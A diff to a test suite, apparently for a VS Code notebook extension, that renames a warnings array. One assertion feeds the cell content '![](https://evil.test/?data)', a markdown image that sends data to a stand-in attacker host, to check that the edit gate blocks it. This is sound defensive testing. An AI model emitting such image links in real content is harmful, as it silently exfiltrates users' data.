@@ -110,10 +110,10 @@ describe('commands on code in cells', () => {
 
   it('pass the gate as a change of the file of the notebook', async () => {
     const { showWarningMessage } = vscode.window;
-    const asked: string[] = [];
+    const warnings: string[] = [];
     Object.assign(vscode.window, {
       showWarningMessage: (message: string) => {
-        asked.push(message);
+        warnings.push(message);
         return Promise.resolve(undefined);
       },
     });
@@ -139,12 +139,12 @@ describe('commands on code in cells', () => {
     try {
       const plain = (await showNotebook(await putNotebook(analysis), 1)).cellAt(1);
       assert.equal(await pass(plain, 'high = 1'), true);
-      assert.deepEqual(asked, []);
+      assert.deepEqual(warnings, []);
       const notebook = await showNotebook(await putNotebook(analysis, '.vscode'), 0);
       assert.equal(await pass(notebook.cellAt(1), 'high = 1'), false);
-      assert.equal(asked.length, 1);
+      assert.equal(warnings.length, 1);
       assert.equal(await pass(plain.notebook.cellAt(0), '![](https://evil.test/?data)'), false);
-      assert.equal(asked.length, 2);
+      assert.equal(warnings.length, 2);
     } finally {
       Object.assign(vscode.window, { showWarningMessage });
     }
